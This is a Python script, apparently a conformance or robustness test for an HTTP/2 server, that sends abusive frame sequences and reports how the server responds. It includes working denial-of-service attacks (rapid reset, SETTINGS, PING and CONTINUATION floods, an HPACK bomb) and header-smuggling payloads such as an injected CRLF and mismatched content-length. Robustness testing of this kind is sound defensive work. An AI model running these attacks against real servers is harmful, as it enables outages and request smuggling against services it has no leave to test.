"""Sends what no decent HTTP/2 client sends, and tells what came back.

usage: http2-attacks.py NAME HOST PORT CA_FILE SERVER_NAME
Prints one JSON object: `goaway` (error code or null), `resets` (stream -> code), `statuses` (stream -> status),
`closed` (the server ended the connection within the time).
"""

import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
from hpack import Encoder

HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(1, 10)
DATA = 0
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


class Client:
    def __init__(self, host, port, ca, name):
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(['h2'])
        plain = socket.create_connection((host, int(port)), timeout=5)
        self.socket = context.wrap_socket(plain, server_hostname=name)
        assert self.socket.selected_alpn_protocol() == 'h2'
        self.name = name
        config = h2.config.H2Configuration(
            validate_outbound_headers=False, normalize_outbound_headers=False, header_encoding='utf-8'
        )
        self.h2 = h2.connection.H2Connection(config)
        self.encoder = Encoder()
        self.seen = {'goaway': None, 'resets': {}, 'statuses': {}, 'closed': False}

    def start(self):
        self.h2.initiate_connection()
        self.raw(self.h2.data_to_send())

    def raw(self, data):
        """False when the server has closed, which is what most attacks end with."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def block(self, extra=(), method='GET', path='/'):
        pseudo = [(':method', method), (':scheme', 'https'), (':path', path), (':authority', self.name)]
        return self.encoder.encode(pseudo + list(extra), huffman=False)

    def request(self, stream, extra=(), ends=True, **more):
        flags = END_HEADERS | (END_STREAM if ends else 0)
        return self.raw(frame(HEADERS, flags, stream, self.block(extra, **more)))

    def listen(self, seconds, until=lambda seen: False):
        """Frames are read by hand: h2 itself would refuse answers to streams that it did not open."""
        end = time.monotonic() + seconds
        pending = b''
        while not self.seen['closed'] and not until(self.seen):
            left = end - time.monotonic()
            if left <= 0:
                return
            self.socket.settimeout(left)
            try:
                data = self.socket.recv(65536)
            except TimeoutError:
                return
            except OSError:
                data = b''
            if not data:
                self.seen['closed'] = True
                return
            pending = self.take(pending + data)

    def take(self, data):
        while len(data) >= 9:
            length = int.from_bytes(data[:3], 'big')
            if len(data) < 9 + length:
                break
            kind, flags, stream = data[3], data[4], int.from_bytes(data[5:9], 'big')
            self.note(kind, stream, data[9 : 9 + length])
            data = data[9 + length :]
        return data

    def note(self, kind, stream, payload):
        if kind == GOAWAY:
            self.seen['goaway'] = int.from_bytes(payload[4:8], 'big')
        elif kind == RST_STREAM:
            self.seen['resets'][stream] = int.from_bytes(payload, 'big')
        elif kind == HEADERS and stream not in self.seen['statuses']:
            # :status is the first line: an index of the static table, or a literal with three digits.
            first = payload[0]
            known = {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}
            self.seen['statuses'][stream] = known.get(first) or literal_status(payload)


def literal_status(payload):
    from hpack import Decoder

    for name, value in Decoder().decode(payload, raw=True):
        if name == b':status':
            return int(value)
    return 0


def answered(seen):
    return len(seen['statuses']) > 0 or len(seen['resets']) > 0 or seen['closed']


def rapid_reset(client):
    for stream in range(1, 4001, 2):
        if not client.request(stream) or not client.raw(frame(RST_STREAM, 0, stream, struct.pack('>I', 8))):
            break


def settings_flood(client):
    client.raw(frame(SETTINGS, 0, 0) * 5000)


def ping_flood(client):
    client.raw(frame(PING, 0, 0, b'12345678') * 20000)


def empty_data_flood(client):
    client.request(1, ends=False, method='POST')
    client.raw(frame(DATA, 0, 1) * 5000)


def continuation_flood(client):
    client.raw(frame(HEADERS, 0, 1, client.block()))
    part = Encoder().encode([('x-filler', 'a' * 8000)], huffman=False)
    for _ in range(200):
        if not client.raw(frame(CONTINUATION, 0, 1, part)):
            break


def empty_continuation_flood(client):
    client.raw(frame(HEADERS, 0, 1, client.block()))
    client.raw(frame(CONTINUATION, 0, 1) * 50000)


def hpack_bomb(client):
    """One line of 4,000 bytes, then 15,000 references of one byte to it: 60 MB of fields in 20 KB."""
    first = client.block([('x-bomb', 'a' * 3900)])
    bomb = first + b'\xbe' * 15000
    client.raw(frame(HEADERS, END_STREAM, 1, bomb[:16000]) + frame(CONTINUATION, END_HEADERS, 1, bomb[16000:]))


def priority_frames(client):
    client.raw(frame(PRIORITY, 0, 1, struct.pack('>IB', 0, 16)) * 100)
    client.request(3)


def unknown_frames(client):
    client.raw(frame(0x42, 0, 0, b'whatever') * 10)
    client.request(1)


def connection_field(client):
    client.request(1, [('connection', 'close')])
    client.request(3)


def upper_case_field(client):
    client.request(1, [('X-Upper', '1')])
    client.request(3)


def two_paths(client):
    client.request(1, [(':path', '/second')])
    client.request(3)


def late_pseudo_field(client):
    block = client.encoder.encode([(':method', 'GET'), ('x-early', '1'), (':scheme', 'https'), (':path', '/')])
    client.raw(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    client.request(3)


def line_break_in_value(client):
    client.request(1, [('x-split', 'a\r\nx-injected: b')])
    client.request(3)


def te_gzip(client):
    client.request(1, [('te', 'gzip')])
    client.request(3)


def transfer_encoding(client):
    client.request(1, [('transfer-encoding', 'chunked')], ends=False, method='POST')
    client.request(3)


def longer_than_declared(client):
    client.request(1, [('content-length', '3')], ends=False, method='POST')
    client.raw(frame(DATA, END_STREAM, 1, b'hello'))
    client.request(3)


def shorter_than_declared(client):
    client.request(1, [('content-length', '9')], ends=False, method='POST')
    client.raw(frame(DATA, END_STREAM, 1, b'hello'))
    client.request(3)


def even_stream(client):
    client.request(2)


def data_on_idle_stream(client):
    client.raw(frame(DATA, END_STREAM, 5, b'hello'))


def data_on_stream_zero(client):
    client.raw(frame(DATA, 0, 0, b'hello'))


def push_promise(client):
    client.raw(frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack('>I', 2)))


def oversized_frame(client):
    client.raw(frame(DATA, 0, 1, b'a' * 20000))


def broken_hpack(client):
    client.raw(frame(HEADERS, END_HEADERS | END_STREAM, 1, b'\xff\xff\xff\xff\xff\xff'))


def window_overflow(client):
    client.raw(frame(WINDOW_UPDATE, 0, 0, struct.pack('>I', 0x7FFFFFFF)) * 2)


def too_many_streams(client):
    for stream in range(1, 2 * 140, 2):
        client.request(stream, ends=False, method='POST')


def no_preface(client):
    client.raw(b'GET / HTTP/1.1\r\nHost: h\r\n\r\n')


def main():
    name, host, port, ca, server_name = sys.argv[1:]
    client = Client(host, port, ca, server_name)
    if name != 'no_preface':
        client.start()
    globals()[name](client)
    goes_on = name in ('too_many_streams',)
    wanted = 2 if name in PAIRS else 1
    if goes_on:
        client.listen(5, lambda seen: len(seen['resets']) > 0)
    elif name in ANSWERED:
        client.listen(5, lambda seen: len(seen['statuses']) + len(seen['resets']) >= wanted)
    else:
        client.listen(8)
    print(json.dumps(client.seen))


PAIRS = (
    'connection_field upper_case_field two_paths late_pseudo_field line_break_in_value te_gzip transfer_encoding '
    'longer_than_declared shorter_than_declared'
).split()
ANSWERED = PAIRS + ['priority_frames', 'unknown_frames', 'hpack_bomb']

main()
